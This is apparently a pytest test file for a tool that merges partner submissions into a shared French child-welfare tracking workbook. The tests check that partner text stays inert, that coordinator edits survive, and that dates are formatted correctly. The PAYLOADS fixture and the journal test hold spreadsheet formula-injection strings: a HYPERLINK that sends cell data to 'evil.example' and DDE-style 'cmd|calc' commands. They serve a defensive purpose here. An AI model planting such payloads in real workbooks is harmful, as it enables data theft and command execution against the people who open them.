"""The shared workbook on disk: inert text, formats, columns and rows found by name and id,
coordinator cells, new rows, journal."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile

import openpyxl
import pandas as pd
import pytest

from resana_sync.errors import WorkbookError
from resana_sync.merge import plan_merge
from resana_sync.workbook import SharedWorkbook
from resana_sync.workbook.cells import EXCEL_TEXT_LIMIT, TRUNCATION_MARKER

from .helpers import NOW, column_of, edit, merge, record, row_of, set_cell, sheet_rows, suivi_by_id

PAYLOADS = {
    "contact_referent": '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "actions_engagees": "- suivi éducatif renforcé",
    "demande": "@SUM(1+1)*cmd|' /C calc'!A0",
    "elements": "+33 6 12 34 56 78",
    "referent": "=1+1",
}


def saved_with(records, schema) -> bytes:
    book = SharedWorkbook.open(None, schema)
    merge(book, records, schema)
    return book.to_bytes()


def sheet_xml(data: bytes, sheet: str) -> str:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    index = wb.sheetnames.index(sheet) + 1
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return package.read(f"xl/worksheets/sheet{index}.xml").decode()


def test_partner_text_is_inert_never_a_formula(schema):
    data = saved_with([record("CMPA", **PAYLOADS)], schema)
    for sheet in ("Suivi", "Contributions"):
        assert "<f>" not in sheet_xml(data, sheet) and "<f " not in sheet_xml(data, sheet)
    ws = openpyxl.load_workbook(io.BytesIO(data))["Contributions"]
    for field, text in PAYLOADS.items():
        cell = ws.cell(2, column_of(ws, schema.field(field).label))
        assert cell.value == text and cell.data_type == "s"
        assert cell.quotePrefix is True
    assert not ws.cell(2, column_of(ws, "Nom")).quotePrefix
    frame = pd.read_excel(io.BytesIO(data), sheet_name="Contributions", engine="openpyxl", dtype=str)
    assert frame.loc[0, "Contact du référent"] == PAYLOADS["contact_referent"]


def test_text_starting_with_tab_or_newline_keeps_its_quote_prefix(schema):
    data = saved_with([record("CMPA", elements="\tcmd", demande="\n=1+2")], schema)
    ws = openpyxl.load_workbook(io.BytesIO(data))["Contributions"]
    for title in ("Éléments de situation", "Demande à la cellule"):
        assert ws.cell(2, column_of(ws, title)).quotePrefix


def test_control_characters_are_removed_and_long_text_is_cut_with_a_marker(schema):
    long_text = "x" * (EXCEL_TEXT_LIMIT + 500)
    data = saved_with([record("CMPA", elements="avant\x0baprès", demande=long_text)], schema)
    row = sheet_rows(data, "Contributions")[0]
    assert row["Éléments de situation"] == "avantaprès"
    assert len(row["Demande à la cellule"]) <= EXCEL_TEXT_LIMIT
    assert row["Demande à la cellule"].endswith(TRUNCATION_MARKER)
    assert row["Fichier source"] == "Dépôts/CMPA/fiches.xlsx" and row["Ligne"] == 2


def test_a_truncated_text_does_not_make_the_next_run_rewrite_the_row(schema):
    book = SharedWorkbook.open(None, schema)
    records = [record("CMPA", demande="y" * (EXCEL_TEXT_LIMIT + 1))]
    first = merge(book, records, schema)
    again = SharedWorkbook.open(book.to_bytes(), schema)
    assert merge(again, records, schema, first.pushed_after).is_empty


def test_dates_are_real_dates_in_french_format_and_booleans_are_oui_non(schema):
    data = saved_with([record(famille_informee=False, absences=7)], schema)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    suivi, contributions = wb["Suivi"], wb["Contributions"]
    born = suivi.cell(2, column_of(suivi, "Date de naissance"))
    assert born.value == dt.datetime(2012, 3, 4) and born.number_format == "DD/MM/YYYY"
    assert suivi.cell(2, column_of(suivi, "Famille informée")).value == "Non"
    assert contributions.cell(2, column_of(contributions, "Famille informée")).value == "Non"
    assert contributions.cell(2, column_of(contributions, "Absences (demi-journées, dernier mois)")).value == 7
    assert contributions.cell(2, column_of(contributions, "Importée le")).number_format == "DD/MM/YYYY HH:MM"


def test_a_date_format_chosen_by_the_coordinator_is_kept(schema):
    book = SharedWorkbook.open(None, schema)
    first = merge(book, [record()], schema)

    def long_dates(wb):
        ws = wb["Suivi"]
        ws.cell(2, column_of(ws, "Dernière contribution")).number_format = "D MMMM YYYY"
    data = edit(book.to_bytes(), long_dates)
    book = SharedWorkbook.open(data, schema)
    merge(book, [record(), record("AEMO", fiche=dt.date(2025, 11, 20))], schema, first.pushed_after)
    ws = openpyxl.load_workbook(io.BytesIO(book.to_bytes()))["Suivi"]
    cell = ws.cell(2, column_of(ws, "Dernière contribution"))
    assert cell.value == dt.datetime(2025, 11, 20) and cell.number_format == "D MMMM YYYY"


def test_columns_are_found_by_header_wherever_the_coordinator_moved_them(schema):
    book = SharedWorkbook.open(None, schema)
    first = merge(book, [record("PJJ"), record("AEMO", nom="DUBOIS", prenom="Enzo")], schema)

    def rearrange(wb):
        ws = wb["Suivi"]
        ws.insert_cols(1)                       # a new first column
        ws["A1"] = "Priorité"
        ws["A2"], ws["A3"] = "haute", "basse"
        ws.move_range("B1:B3", rows=0, cols=30)  # "Identifiant" moved to the far right
        ws.column_dimensions["C"].hidden = True
        ws["C1"] = "  nom "                     # header retyped with other case and spaces
    data = edit(book.to_bytes(), rearrange)
    book = SharedWorkbook.open(data, schema)
    plan = merge(book, [record("PJJ", classe="3e"), record("AEMO", nom="DUBOIS", prenom="Enzo")], schema,
                 first.pushed_after)
    assert [u.title for u in plan.cell_updates] == ["Classe"]
    ws = openpyxl.load_workbook(io.BytesIO(book.to_bytes()))["Suivi"]
    martin = row_of(ws, "2025-002")
    assert ws.cell(martin, column_of(ws, "Classe")).value == "3e"
    assert (martin, ws.cell(martin, 1).value) == (3, "basse")   # the coordinator's column stayed in place
    assert ws.cell(2, 1).value == "haute"
    assert ws.column_dimensions["C"].hidden


def test_sorted_rows_keep_every_decision_on_the_right_young_person(schema):
    book = SharedWorkbook.open(None, schema)
    records = [record("PJJ", nom=name, prenom="Alex", row=i) for i, name in enumerate(["ARNAUD", "BLANC", "CARON"], 2)]
    first = merge(book, records, schema)

    def decide_and_sort(wb):
        ws = wb["Suivi"]
        decisions = column_of(ws, "Préconisations / décisions")
        for r in range(2, 5):
            ws.cell(r, decisions).value = f"décision pour {ws.cell(r, column_of(ws, 'Nom')).value}"
        rows = [[c.value for c in ws[r]] for r in range(2, 5)]
        for r, values in zip(range(2, 5), reversed(rows)):   # sorted Z -> A by the coordinator
            for c, value in enumerate(values, start=1):
                ws.cell(r, c).value = value
    data = edit(book.to_bytes(), decide_and_sort)
    book = SharedWorkbook.open(data, schema)
    new_records = [record("PJJ", nom=name, prenom="Alex", row=i, classe="3e")
                   for i, name in enumerate(["CARON", "ARNAUD", "BLANC"], 2)]   # partner lists in another order
    merge(book, new_records, schema, first.pushed_after)
    for row in sheet_rows(book.to_bytes(), "Suivi"):
        assert row["Préconisations / décisions"] == f"décision pour {row['Nom']}"
        assert row["Classe"] == "3e"


def test_coordinator_cells_are_never_written_after_the_row_is_created(schema):
    book = SharedWorkbook.open(None, schema)
    first = merge(book, [record()], schema)
    data = edit(book.to_bytes(), set_cell("Suivi", "2025-001", "Statut", None))
    book = SharedWorkbook.open(data, schema)
    merge(book, [record(classe="3e"), record("AEMO")], schema, first.pushed_after)
    row = suivi_by_id(book.to_bytes())["2025-001"]
    assert row["Statut"] is None and row["Classe"] == "3e"


def test_new_rows_go_after_the_last_used_row_even_below_formatted_blank_rows(schema):
    book = SharedWorkbook.open(None, schema)
    first = merge(book, [record()], schema)

    def format_ahead(wb):
        ws = wb["Suivi"]
        for r in range(2, 40):
            ws.cell(r, 2).fill = openpyxl.styles.PatternFill("solid", fgColor="FFFF00")
        ws.cell(2, column_of(ws, "Observations")).value = "note libre"
    data = edit(book.to_bytes(), format_ahead)
    book = SharedWorkbook.open(data, schema)
    merge(book, [record(), record("AEMO", nom="DUBOIS", prenom="Enzo")], schema, first.pushed_after)
    ws = openpyxl.load_workbook(io.BytesIO(book.to_bytes()))["Suivi"]
    assert row_of(ws, "2025-002") == 3
    assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(ws.max_column)}3"


def test_a_missing_sheet_or_column_is_added_back(schema):
    book = SharedWorkbook.open(None, schema)
    first = merge(book, [record()], schema)

    def remove(wb):
        del wb["Journal"]
        ws = wb["Suivi"]
        ws.delete_cols(column_of(ws, "Classe"))
    data = edit(book.to_bytes(), remove)
    book = SharedWorkbook.open(data, schema)
    merge(book, [record()], schema, first.pushed_after)
    wb = openpyxl.load_workbook(io.BytesIO(book.to_bytes()))
    assert "Journal" in wb.sheetnames
    ws = wb["Suivi"]
    assert ws.cell(2, column_of(ws, "Classe")).value == "4e"


def test_a_damaged_or_password_protected_workbook_is_a_clear_error(schema):
    with pytest.raises(WorkbookError, match="Archives"):
        SharedWorkbook.open(b"PK\x03\x04 not really a workbook", schema)
    with pytest.raises(WorkbookError, match="mot de passe"):
        SharedWorkbook.open(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), schema)


def test_a_derived_cell_merged_by_hand_into_its_neighbour_is_left_alone(schema):
    book = SharedWorkbook.open(None, schema)
    first = merge(book, [record()], schema)

    def merge_names(wb):
        ws = wb["Suivi"]
        ws.merge_cells(start_row=2, start_column=column_of(ws, "Nom"), end_row=2, end_column=column_of(ws, "Prénom"))
    book = SharedWorkbook.open(edit(book.to_bytes(), merge_names), schema)
    plan = merge(book, [record(prenom="Lea", classe="3e")], schema, first.pushed_after)
    # the merged-away cell reads as a hand edit: kept, and the partner's new spelling is flagged
    assert [c.title for c in plan.conflicts] == ["Prénom"]
    row = suivi_by_id(book.to_bytes())["2025-001"]
    assert row["Nom"] == "MARTIN" and row["Prénom"] is None and row["Classe"] == "3e"


def test_metadata_sheet_stays_very_hidden_and_holds_no_formula(schema):
    data = saved_with([record(**PAYLOADS)], schema)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    meta = wb["_resana_sync"]
    assert meta.sheet_state == "veryHidden"
    assert not re.search(r"<f[ >]", sheet_xml(data, "_resana_sync"))


def test_times_are_the_wall_clock_of_the_run_in_its_own_time_zone(schema):
    from zoneinfo import ZoneInfo

    paris = dt.datetime(2025, 12, 1, 21, 30, 15, 123456, tzinfo=ZoneInfo("Europe/Paris"))
    book = SharedWorkbook.open(None, schema)
    merge(book, [record()], schema, now=paris)
    assert sheet_rows(book.to_bytes(), "Contributions")[0]["Importée le"] == dt.datetime(2025, 12, 1, 21, 30, 15)


def test_journal_cells_are_inert_too(schema):
    from resana_sync.records import FileResult, Outcome

    book = SharedWorkbook.open(None, schema)
    book.add_journal([FileResult("PJJ", "Dépôts/PJJ/=cmd|calc.xlsx", Outcome.REJECTED, "e" * 64,
                                 message="=HYPERLINK(\"x\") illisible\x0b")], dt.datetime(2025, 12, 1, 20, 0))
    ws = openpyxl.load_workbook(io.BytesIO(book.to_bytes()))["Journal"]
    file_cell, message = ws.cell(2, column_of(ws, "Fichier")), ws.cell(2, column_of(ws, "Message"))
    assert file_cell.value == "=cmd|calc.xlsx" and file_cell.data_type == "s" and file_cell.quotePrefix
    assert message.value == "=HYPERLINK(\"x\") illisible" and message.quotePrefix
    assert ws.cell(2, column_of(ws, "Date")).number_format == "DD/MM/YYYY HH:MM"


def test_title_rows_inserted_above_the_headers_are_respected(schema):
    book = SharedWorkbook.open(None, schema)
    first = merge(book, [record()], schema)

    def add_title(wb):
        ws = wb["Suivi"]
        ws.insert_rows(1, 2)
        ws["A1"] = "Tableau de suivi 2025-2026"
        ws.auto_filter.ref = f"A3:{openpyxl.utils.get_column_letter(ws.max_column)}4"
        ws.cell(4, column_of_row(ws, 3, "Statut")).value = "En cours"
    book = SharedWorkbook.open(edit(book.to_bytes(), add_title), schema)
    merge(book, [record(classe="3e"), record("AEMO", nom="DUBOIS", prenom="Enzo")], schema, first.pushed_after)
    ws = openpyxl.load_workbook(io.BytesIO(book.to_bytes()))["Suivi"]
    assert ws["A1"].value == "Tableau de suivi 2025-2026" and ws["A2"].value is None
    assert [ws.cell(r, 1).value for r in (4, 5)] == ["2025-001", "2025-002"]
    assert ws.cell(4, column_of_row(ws, 3, "Classe")).value == "3e"
    assert ws.cell(4, column_of_row(ws, 3, "Statut")).value == "En cours"
    assert ws.auto_filter.ref.endswith("5") and ws.auto_filter.ref.startswith("A3:")


def column_of_row(ws, row: int, title: str) -> int:
    return next(c.column for c in ws[row] if c.value == title)


def test_a_table_elsewhere_on_the_sheet_is_not_stretched(schema):
    from openpyxl.worksheet.table import Table

    book = SharedWorkbook.open(None, schema)
    first = merge(book, [record()], schema)

    def side_table(wb):
        ws = wb["Suivi"]
        start = ws.max_column + 2
        for r, values in enumerate([("Statut", "Nombre"), ("En cours", 1)], start=5):
            for c, value in enumerate(values, start=start):
                ws.cell(r, c).value = value
        a, b = openpyxl.utils.get_column_letter(start), openpyxl.utils.get_column_letter(start + 1)
        ws.add_table(Table(displayName="Bilan", ref=f"{a}5:{b}6"))
    book = SharedWorkbook.open(edit(book.to_bytes(), side_table), schema)
    merge(book, [record()] + [record("AEMO", nom=f"NOM{i}", prenom="X", row=i) for i in range(2, 10)], schema,
          first.pushed_after)
    ws = openpyxl.load_workbook(io.BytesIO(book.to_bytes()))["Suivi"]
    assert ws.tables["Bilan"].ref.endswith("6")


def test_an_unreadable_metadata_sheet_is_ignored_not_fatal(schema):
    book = SharedWorkbook.open(None, schema)
    merge(book, [record()], schema)

    def spoil(wb):
        wb["_resana_sync"]["C2"] = "{pas du json"
    snapshot = SharedWorkbook.open(edit(book.to_bytes(), spoil), schema).snapshot()
    assert snapshot.metadata.pushed == {} and len(snapshot.suivi) == 1


def test_a_plan_made_for_another_workbook_is_refused_before_any_write(schema):
    book = SharedWorkbook.open(None, schema)
    first = merge(book, [record()], schema)
    later = plan_merge(book.snapshot(), [record(classe="3e")], first.pushed_after, schema=schema, now=NOW)
    other = SharedWorkbook.open(None, schema)
    before = other.to_bytes()
    with pytest.raises(WorkbookError, match="relancez"):
        other.apply(later)
    assert sheet_rows(other.to_bytes(), "Suivi") == sheet_rows(before, "Suivi") == []
